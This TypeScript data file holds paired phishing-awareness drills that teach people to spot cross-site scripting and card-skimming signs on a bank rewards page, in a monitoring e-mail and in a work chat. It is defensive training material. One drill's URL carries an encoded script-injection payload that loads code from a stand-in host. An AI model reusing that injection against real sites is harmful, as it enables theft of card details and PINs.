import type { Drill } from '../drill-types';

const REWARDS_SCENARIO =
  "An SMS says your Marula Bank rewards points expire at the end of the month and gives a link. You tap it, and this page opens on your phone. Marula Bank's site is www.marulabank.example.";

const SUMMARY_SCENARIO =
  "You are on Harbourline Bank's web team. Each morning the monitoring system e-mails a summary of the online shop where customers buy travel insurance. No release went out this week.";

const CHAT_SCENARIO =
  "You are on Marula Bank's web security team, where every change to the payment page needs an approved change request. This morning the dashboard shows a jump in Content Security Policy reports and a new script on the payment page. Lerato, the web team lead you work with every week, messages you in the work chat.";

const PAGE_LINK = '[Read the Cross-Site Scripting (XSS) page](/frauds/Xss)';

export const drills: Drill[] = [
  {
    id: 'Xss-d1',
    twin: 'Xss-d4',
    fraudId: 'Xss',
    title: "A rewards page on your bank's site",
    setting: 'za',
    scenario: REWARDS_SCENARIO,
    artefact: {
      medium: 'web',
      url: 'https://www.marulabank.example/rewards?ref=%3Cscript%20src%3D%22https%3A%2F%2Fcdn-rewardz.invalid%2Fr.js%22%3E%3C%2Fscript%3E',
      urlHotspot: 'address',
      padlock: true,
      title: 'Marula Rewards',
      body: [
        [
          {
            text: "Welcome back! Your 12 450 points are worth R124.50. Points for today's purchases show within 48 hours.",
            hotspot: 'points-line',
          },
        ],
        [
          {
            text: 'Your session has expired. To keep your points, confirm your mobile number and card PIN below.',
            hotspot: 'notice-line',
          },
        ],
      ],
      form: {
        fields: [
          { label: 'Mobile number', type: 'text', hotspot: 'first-field' },
          { label: 'Card PIN', type: 'password', hotspot: 'second-field' },
        ],
        submit: 'Continue',
      },
    },
    legitimate: false,
    rightDecisions: ['report'],
    decisionExplanation:
      "The page is on your bank's real domain, but the link carries a script that adds its own form to it. No bank asks for your card PIN on a web page, so close it and report it.",
    alignment: {
      rating: 'medium',
      reason:
        "The address and padlock are your bank's own, though points that are about to expire are a familiar lure.",
    },
    hotspots: [
      {
        id: 'address',
        label: 'Address bar',
        redFlag: true,
        cue: 'technical',
        teaches: 0,
        explanation:
          'The domain is real, but the end of the address holds encoded script code ("%3Cscript" is "<script") that loads a file from another site.',
      },
      {
        id: 'points-line',
        label: 'Points balance',
        redFlag: false,
        cue: 'language',
        explanation:
          '"Within 48 hours" can read like a deadline, but it only says when new points appear, as on the real page. A balance and a note like this ask nothing of you.',
      },
      {
        id: 'notice-line',
        label: 'Notice above the form',
        redFlag: true,
        cue: 'visual',
        teaches: 4,
        explanation:
          'A notice that your session expired, asking for card details, is what an injected script adds to a trusted page. Your bank would send you to sign in normally.',
      },
      {
        id: 'first-field',
        label: 'Form field: Mobile number',
        redFlag: false,
        explanation:
          'A mobile number is a normal thing to ask when points can become airtime. It is not the warning sign here.',
      },
      {
        id: 'second-field',
        label: 'Second form field',
        redFlag: true,
        cue: 'language',
        teaches: 4,
        explanation:
          'An extra form field that asks for your card PIN is a sure sign: your bank never asks for a card PIN on a web page.',
      },
    ],
    inRealLife: `Close the page without typing anything. Call your bank's fraud line on the number on your card to report the SMS and the page, so that its web team can find the flaw. If you entered card details, ask them to stop the card. The bank reports any leak of personal data to the Information Regulator. ${PAGE_LINK}`,
    variants: [
      {
        swap: {
          Marula: 'Kiaat',
          marula: 'kiaat',
          '12 450 points': '9 820 points',
          'R124.50': 'R98.20',
        },
      },
      {
        swap: {
          Marula: 'Mopane',
          marula: 'mopane',
          '12 450 points': '15 300 points',
          'R124.50': 'R153.00',
        },
      },
    ],
  },
  {
    id: 'Xss-d2',
    twin: 'Xss-d5',
    fraudId: 'Xss',
    title: 'A daily summary for the web team',
    setting: 'international',
    scenario: SUMMARY_SCENARIO,
    artefact: {
      medium: 'email',
      from: {
        name: 'Harbourline Web Monitoring',
        address: 'monitoring@harbourline.example',
        hotspot: 'sender-address',
      },
      to: 'web-team@harbourline.example',
      date: 'Mon 9 Mar 2026, 06:00',
      subject: ['Daily summary: shop.harbourline.example'],
      body: [
        [{ text: 'Uptime: 100%. Average page load: 1.4 s.', hotspot: 'uptime-line' }],
        [
          {
            text: 'Visitors: 2,310. Policies sold: 412, about the same as last Monday. Card payment failures: 9, within the usual range.',
            hotspot: 'sales-line',
          },
        ],
        [
          {
            text: 'Content Security Policy reports: 18,402 in the last day (usual: about 40).',
            hotspot: 'csp-line',
          },
        ],
        [
          {
            text: 'Scripts on the payment page: 7. New: https://cdn-paystats.invalid/loader.js (not on the approved list).',
            hotspot: 'script-line',
          },
        ],
        [
          {
            text: 'Files changed: checkout.js at 02:13 on Sun 8 Mar. No release or change request matches.',
            hotspot: 'file-line',
          },
        ],
        [
          {
            text: 'Note from the card fraud team: 27 customers report card fraud this week, and all of them bought travel insurance on our shop.',
            hotspot: 'fraud-note',
          },
        ],
      ],
    },
    legitimate: false,
    rightDecisions: ['report'],
    decisionExplanation:
      "The summary is genuine, but what it reports is an attack: an unknown script on the payment page is skimming customers' cards. Declare an incident now.",
    alignment: {
      rating: 'high',
      reason: 'The team reads this summary every morning, and most days it is dull.',
    },
    hotspots: [
      {
        id: 'sender-address',
        label: 'Sender address',
        redFlag: false,
        explanation:
          "This is the bank's own monitoring system. The e-mail is real; the question is what it tells you.",
      },
      {
        id: 'uptime-line',
        label: 'Uptime line',
        redFlag: false,
        explanation:
          'A site can be up and fast while it is being attacked. Card skimming scripts are built not to slow anything down.',
      },
      {
        id: 'sales-line',
        label: 'Sales line',
        redFlag: false,
        cue: 'technical',
        explanation:
          'Failed card payments sound bad, but nine is the usual daily number. Sales look normal because a skimming script copies card details without stopping anyone from paying.',
      },
      {
        id: 'csp-line',
        label: 'Content Security Policy reports',
        redFlag: true,
        cue: 'technical',
        teaches: 3,
        explanation:
          'Browsers send these reports when a page tries to load something it should not. A jump from 40 to 18,402 means something new is running.',
      },
      {
        id: 'script-line',
        label: 'Payment page scripts',
        redFlag: true,
        cue: 'technical',
        teaches: 1,
        explanation:
          'A payment page loading a script from a domain nobody approved is how card skimmers work: the script copies what customers type.',
      },
      {
        id: 'file-line',
        label: 'Changed files',
        redFlag: true,
        cue: 'technical',
        teaches: 2,
        explanation:
          'A script file that changed at 02:13 with no release behind it was changed by someone outside the normal process.',
      },
      {
        id: 'fraud-note',
        label: 'Note from the card fraud team',
        redFlag: true,
        cue: 'language',
        teaches: 5,
        explanation:
          'A cluster of card fraud cases that all lead back to one website points to that website as the place the cards were stolen.',
      },
    ],
    inRealLife: `Call the incident team at once. They take the payment page offline or restore the approved checkout.js, keep the changed file as evidence, and work with the card fraud team to block affected cards. The bank reports the incident to CISA in the United States or, in the United Kingdom, to Report Fraud. ${PAGE_LINK}`,
    variants: [
      {
        swap: {
          Harbourline: 'Eastbrook',
          harbourline: 'eastbrook',
          '18,402': '21,736',
          'cdn-paystats.invalid': 'cdn-pagemetrics.invalid',
          '02:13': '03:41',
          '27 customers': '31 customers',
        },
      },
      {
        swap: {
          Harbourline: 'Westmere',
          harbourline: 'westmere',
          'Visitors: 2,310': 'Visitors: 2,685',
          'Policies sold: 412': 'Policies sold: 447',
          '18,402': '15,977',
          '27 customers': '22 customers',
        },
      },
    ],
  },
  {
    id: 'Xss-d3',
    twin: 'Xss-d6',
    fraudId: 'Xss',
    title: 'A message from the web team lead',
    setting: 'za',
    scenario: CHAT_SCENARIO,
    artefact: {
      medium: 'chat',
      app: 'Work chat',
      sender: { name: 'Lerato Dlamini (Web team lead)', number: '021 555 0163', hotspot: 'sender' },
      messages: [
        {
          from: 'them',
          time: '09:02',
          body: [
            {
              text: 'Hi! Heads-up: release 8.14 went live at 08:30 under change CHG-31877, approved on Thursday.',
              hotspot: 'change-line',
            },
          ],
        },
        {
          from: 'them',
          time: '09:03',
          body: [
            {
              text: 'It moves card payments to our new provider, so the payment page now loads pay.tallowpay.example/v3/checkout.js. It is in the change and on the approved list.',
              hotspot: 'script-line',
            },
          ],
        },
        {
          from: 'them',
          time: '09:04',
          body: [
            {
              text: 'You will see a burst of CSP reports from browsers that still have the old page cached. They should die down within a few hours.',
              hotspot: 'csp-line',
            },
          ],
        },
        {
          from: 'them',
          time: '09:05',
          body: [{ text: 'Shout if the numbers do not drop.', hotspot: 'numbers-line' }],
        },
        { from: 'me', time: '09:07', body: ['Thanks, I will keep an eye on it.'] },
      ],
    },
    legitimate: true,
    rightDecisions: ['trust'],
    decisionExplanation:
      'The new script and the report spike come from a release with a change number and an approval date, and the script is on the approved list. That is how every change to the payment page should arrive, so you can trust it and watch the reports fall.',
    alignment: {
      rating: 'high',
      reason: "Releases and new payment providers are part of the web security team's normal work.",
    },
    hotspots: [
      {
        id: 'sender',
        label: 'Sender',
        redFlag: false,
        explanation: 'A colleague you work with every week, in the internal work chat.',
      },
      {
        id: 'change-line',
        label: 'Line about the change',
        redFlag: false,
        explanation:
          'The release has a change number and an approval date, as every change to the payment page must.',
      },
      {
        id: 'script-line',
        label: 'Line about the new script',
        redFlag: false,
        cue: 'technical',
        explanation:
          'A new script on a payment page is an XSS warning sign. Here it belongs to the approved change and is on the approved list, so it is expected.',
      },
      {
        id: 'csp-line',
        label: 'Line about CSP reports',
        redFlag: false,
        cue: 'technical',
        explanation:
          'A spike in Content Security Policy reports can mean an attack. Right after a real release, cached old pages explain it, and it should fade within hours.',
      },
      {
        id: 'numbers-line',
        label: 'Line about the numbers',
        redFlag: false,
        explanation: 'Asking to hear if the numbers stay high is an ordinary, careful request.',
      },
    ],
    inRealLife: `Watch the reports fall. If they stay high, or a script appears that no approved change explains, treat it as an incident. If card data leaks, the bank's fraud line stops cards and the bank reports to the Information Regulator. ${PAGE_LINK}`,
    variants: [
      {
        swap: {
          'Lerato Dlamini': 'Nadia Jacobs',
          Lerato: 'Nadia',
          '021 555 0163': '021 555 0118',
          'release 8.14': 'release 9.2',
          'CHG-31877': 'CHG-40526',
          tallowpay: 'quillpay',
        },
      },
      {
        swap: {
          'Lerato Dlamini': 'Thandeka Mokoena',
          Lerato: 'Thandeka',
          '08:30': '08:15',
          'CHG-31877': 'CHG-29904',
          Thursday: 'Wednesday',
          Marula: 'Kiaat',
        },
      },
    ],
  },
  {
    id: 'Xss-d4',
    twin: 'Xss-d1',
    fraudId: 'Xss',
    title: "A rewards page on your bank's site",
    setting: 'za',
    scenario: REWARDS_SCENARIO,
    artefact: {
      medium: 'web',
      url: 'https://www.marulabank.example/rewards?ref=sms-march',
      urlHotspot: 'address',
      padlock: true,
      title: 'Marula Rewards',
      body: [
        [
          {
            text: "Welcome back! Your 12 450 points are worth R124.50. Points for today's purchases show within 48 hours.",
            hotspot: 'points-line',
          },
        ],
        [
          {
            text: 'Your points expire on 31 March. Swap them for airtime below before then.',
            hotspot: 'notice-line',
          },
        ],
      ],
      form: {
        fields: [
          { label: 'Mobile number', type: 'text', hotspot: 'first-field' },
          { label: 'Points to swap', type: 'text', hotspot: 'second-field' },
        ],
        submit: 'Continue',
      },
    },
    legitimate: true,
    rightDecisions: ['trust'],
    decisionExplanation:
      "The address is your bank's own with nothing hidden in it, and the page asks only for a mobile number and a number of points. Nothing there could be used to steal from you, so you can trust it.",
    alignment: {
      rating: 'medium',
      reason:
        "The address and padlock are your bank's own, though points that are about to expire are a familiar lure.",
    },
    hotspots: [
      {
        id: 'address',
        label: 'Address bar',
        redFlag: false,
        cue: 'technical',
        explanation:
          'Text after a "?" in an address can hide script code. Here it is a short campaign tag with no code in it, on your bank\'s own domain.',
      },
      {
        id: 'points-line',
        label: 'Points balance',
        redFlag: false,
        cue: 'language',
        explanation:
          '"Within 48 hours" can read like a deadline, but it only says when new points appear. A balance and a note like this ask nothing of you.',
      },
      {
        id: 'notice-line',
        label: 'Notice above the form',
        redFlag: false,
        cue: 'tactics',
        explanation:
          'A deadline can feel like pressure. A points expiry date is ordinary, and the notice asks for nothing secret.',
      },
      {
        id: 'first-field',
        label: 'Form field: Mobile number',
        redFlag: false,
        explanation: 'Your mobile number is what an airtime swap needs.',
      },
      {
        id: 'second-field',
        label: 'Second form field',
        redFlag: false,
        explanation: 'It asks how many points to swap, which is all the page needs.',
      },
    ],
    inRealLife: `Swap your points if you want to. If a page on your bank's site ever asks for a PIN, or its address holds odd code, close it and call your bank's fraud line on the number on your card. ${PAGE_LINK}`,
    variants: [
      {
        swap: {
          Marula: 'Mopane',
          marula: 'mopane',
          '12 450 points': '8 640 points',
          'R124.50': 'R86.40',
          '31 March': '30 April',
          'sms-march': 'sms-april',
        },
      },
      {
        swap: {
          Marula: 'Kiaat',
          marula: 'kiaat',
          '12 450 points': '21 075 points',
          'R124.50': 'R210.75',
          '31 March': '31 May',
          'sms-march': 'sms-may',
        },
      },
    ],
  },
  {
    id: 'Xss-d5',
    twin: 'Xss-d2',
    fraudId: 'Xss',
    title: 'A daily summary for the web team',
    setting: 'international',
    scenario: SUMMARY_SCENARIO,
    artefact: {
      medium: 'email',
      from: {
        name: 'Harbourline Web Monitoring',
        address: 'monitoring@harbourline.example',
        hotspot: 'sender-address',
      },
      to: 'web-team@harbourline.example',
      date: 'Mon 9 Mar 2026, 06:00',
      subject: ['Daily summary: shop.harbourline.example'],
      body: [
        [{ text: 'Uptime: 100%. Average page load: 1.4 s.', hotspot: 'uptime-line' }],
        [
          {
            text: 'Visitors: 2,310. Policies sold: 412, about the same as last Monday. Card payment failures: 9, within the usual range.',
            hotspot: 'sales-line',
          },
        ],
        [
          {
            text: 'Content Security Policy reports: 46 in the last day (usual: about 40).',
            hotspot: 'csp-line',
          },
        ],
        [
          {
            text: 'Scripts on the payment page: 6, all on the approved list.',
            hotspot: 'script-line',
          },
        ],
        [
          {
            text: 'Files changed: none since the release on 24 Feb.',
            hotspot: 'file-line',
          },
        ],
        [
          {
            text: 'Note from the card fraud team: 3 customers who bought travel insurance report card fraud this week, about the usual number, with no shop in common.',
            hotspot: 'fraud-note',
          },
        ],
      ],
    },
    legitimate: true,
    rightDecisions: ['trust'],
    decisionExplanation:
      'Every figure is normal: the reports are at their usual level, every script is approved and no file changed in a week with no release. It is a quiet morning, so trust the summary.',
    alignment: {
      rating: 'high',
      reason: 'The team reads this summary every morning, and most days it is dull.',
    },
    hotspots: [
      {
        id: 'sender-address',
        label: 'Sender address',
        redFlag: false,
        explanation:
          "This is the bank's own monitoring system, which sends this summary every morning.",
      },
      {
        id: 'uptime-line',
        label: 'Uptime line',
        redFlag: false,
        explanation: 'Uptime and speed are normal, as on most days.',
      },
      {
        id: 'sales-line',
        label: 'Sales line',
        redFlag: false,
        cue: 'technical',
        explanation:
          'Failed card payments sound bad, but nine is the usual daily number. Sales are about the same as a week ago.',
      },
      {
        id: 'csp-line',
        label: 'Content Security Policy reports',
        redFlag: false,
        cue: 'technical',
        explanation:
          'A rise in these reports can signal an attack. But 46 against a usual 40 is ordinary noise, not a jump.',
      },
      {
        id: 'script-line',
        label: 'Payment page scripts',
        redFlag: false,
        explanation:
          'Every script on the payment page is on the approved list, which is what you want to see.',
      },
      {
        id: 'file-line',
        label: 'Changed files',
        redFlag: false,
        explanation: 'No file changed since the last release, which fits a week with no release.',
      },
      {
        id: 'fraud-note',
        label: 'Note from the card fraud team',
        redFlag: false,
        cue: 'language',
        explanation:
          'Card fraud reports sound alarming. A usual number with no shop in common does not point to your site.',
      },
    ],
    inRealLife: `Nothing to escalate. If the reports jump, a script appears that nobody approved, or a file changes with no release, call the incident team at once; the bank reports incidents to CISA in the United States or to Report Fraud in the United Kingdom. ${PAGE_LINK}`,
    variants: [
      {
        swap: {
          Harbourline: 'Westmere',
          harbourline: 'westmere',
          'Visitors: 2,310': 'Visitors: 2,148',
          '24 Feb': '19 Feb',
          '3 customers': '4 customers',
        },
      },
      {
        swap: {
          Harbourline: 'Eastbrook',
          harbourline: 'eastbrook',
          'Policies sold: 412': 'Policies sold: 389',
          'reports: 46': 'reports: 37',
          '46 against': '37 against',
          '24 Feb': '26 Feb',
        },
      },
    ],
  },
  {
    id: 'Xss-d6',
    twin: 'Xss-d3',
    fraudId: 'Xss',
    title: 'A message from the web team lead',
    setting: 'za',
    scenario: CHAT_SCENARIO,
    artefact: {
      medium: 'chat',
      app: 'Work chat',
      sender: { name: 'Lerato Dlamini (Web team lead)', number: '021 555 0163', hotspot: 'sender' },
      messages: [
        {
          from: 'them',
          time: '09:02',
          body: [
            {
              text: 'Hi! Heads-up: I pushed a quick fix to checkout.js at 02:10 last night. There is no change request; it was too small to bother.',
              hotspot: 'change-line',
            },
          ],
        },
        {
          from: 'them',
          time: '09:03',
          body: [
            {
              text: 'It loads a small stats script from cdn-paystats.invalid/loader.js. I will add it to the approved list later.',
              hotspot: 'script-line',
            },
          ],
        },
        {
          from: 'them',
          time: '09:04',
          body: [
            {
              text: 'You will see a burst of CSP reports from browsers that still have the old page cached. They should die down within a few hours.',
              hotspot: 'csp-line',
            },
          ],
        },
        {
          from: 'them',
          time: '09:05',
          body: [{ text: 'Shout if the numbers do not drop.', hotspot: 'numbers-line' }],
        },
        { from: 'me', time: '09:07', body: ['Thanks, I will keep an eye on it.'] },
      ],
    },
    legitimate: false,
    rightDecisions: ['report'],
    decisionExplanation:
      'A script from an unknown domain, added to the payment page at night with no change request, matches the signs of a card-skimming attack, whoever sent the message. Raise an incident rather than waiting for the numbers to drop.',
    alignment: {
      rating: 'high',
      reason: "Releases and new scripts are part of the web security team's normal work.",
    },
    hotspots: [
      {
        id: 'sender',
        label: 'Sender',
        redFlag: false,
        explanation:
          "The message comes from Lerato's usual work chat account. A real colleague, or someone using her account, can still put an unapproved script on the page.",
      },
      {
        id: 'change-line',
        label: 'Line about the change',
        redFlag: true,
        cue: 'technical',
        teaches: 2,
        explanation:
          "A change to checkout.js in the middle of the night with no change request is what an attacker's edit looks like. Every change to the payment page needs an approved request.",
      },
      {
        id: 'script-line',
        label: 'Line about the new script',
        redFlag: true,
        cue: 'technical',
        teaches: 1,
        explanation:
          'A payment page loading a script from a domain nobody approved is how card skimmers work. "I will add it later" does not make it approved.',
      },
      {
        id: 'csp-line',
        label: 'Line about CSP reports',
        redFlag: false,
        cue: 'technical',
        explanation:
          'A burst of CSP reports sounds alarming, but cached pages do cause one after a real release, so this line alone proves nothing. The question is what changed on the page.',
      },
      {
        id: 'numbers-line',
        label: 'Line about the numbers',
        redFlag: false,
        explanation:
          'Asking to hear if the numbers stay high is ordinary. It does not explain the unapproved change.',
      },
    ],
    inRealLife: `Raise an incident. The team compares checkout.js with the approved version, removes the unknown script and talks to Lerato by phone. If card data leaks, the bank's fraud line stops cards and the bank reports to the Information Regulator. ${PAGE_LINK}`,
    variants: [
      {
        swap: {
          'Lerato Dlamini': 'Nadia Jacobs',
          Lerato: 'Nadia',
          '021 555 0163': '021 555 0118',
          '02:10': '01:47',
          'cdn-paystats.invalid': 'cdn-pagemetrics.invalid',
        },
      },
      {
        swap: {
          'Lerato Dlamini': 'Thandeka Mokoena',
          Lerato: 'Thandeka',
          Marula: 'Kiaat',
          '02:10': '03:25',
          'cdn-paystats.invalid': 'stats-cdnhub.invalid',
        },
      },
    ],
  },
];
